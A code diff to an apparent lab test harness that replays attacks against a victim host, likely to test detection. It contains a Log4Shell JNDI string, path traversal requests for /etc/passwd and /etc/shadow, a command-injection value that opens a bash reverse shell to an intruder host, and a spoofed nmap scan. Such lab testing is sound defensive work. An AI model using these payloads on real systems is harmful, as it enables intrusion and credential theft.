@@ -5,6 +5,7 @@ from __future__ import annotations
 import subprocess
 import tempfile
 import threading
+import time
 from collections.abc import Callable
 from pathlib import Path
 
@@ -23,6 +24,7 @@ from tests.lab.lab import (
 )
 
 JNDI = f"${{jndi:ldap://{INTRUDER}:1389/Basic/Command/whoami}}"
+TYPING_S = 0.4
 BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 
 
@@ -33,7 +35,7 @@ def log4shell(lab: Lab) -> None:
 
 def traversal(lab: Lab) -> None:
     """A file from outside the download folder."""
-    lab.fetch(INTRUDER, "/download?name=../../../../../../etc/passwd")
+    lab.fetch(INTRUDER, "/download?name=../../../../../../etc/shadow")
     lab.fetch(INTRUDER, "/download?name=../passwd")
 
 
@@ -60,14 +62,16 @@ def reverse_shell(lab: Lab) -> list[subprocess.Popen[str]]:
     command = f"127.0.0.1;bash%20-c%20'bash%20-i%20>%26%20/dev/tcp/{INTRUDER}/{SHELL_PORT}%200>%261'"
     asked = _ask(lab, f"/ping?host={command}")
     assert waiting.stdin is not None
-    waiting.stdin.write("id\npwd\ncat /srv/shop/files/terms.txt\nsleep 1\nexit\n")
-    waiting.stdin.flush()
+    for line in ("id", "pwd", "cat files/terms.txt", "exit"):
+        time.sleep(TYPING_S)
+        waiting.stdin.write(line + "\n")
+        waiting.stdin.flush()
     return [asked, waiting]
 
 
 def scan(lab: Lab) -> None:
-    """A few hundred ports in a moment."""
-    lab.run_outside("nmap", "-S", SCANNER, "-e", IFACE, "-sS", "-Pn", "-n", "-T5", "-p1-300", VICTIM)
+    """The hundred most common ports in a moment."""
+    lab.run_outside("nmap", "-S", SCANNER, "-e", IFACE, "-sS", "-Pn", "-n", "-T5", "--top-ports", "100", VICTIM)
 
 
 def guess_passwords(lab: Lab, times: int = 12) -> None:
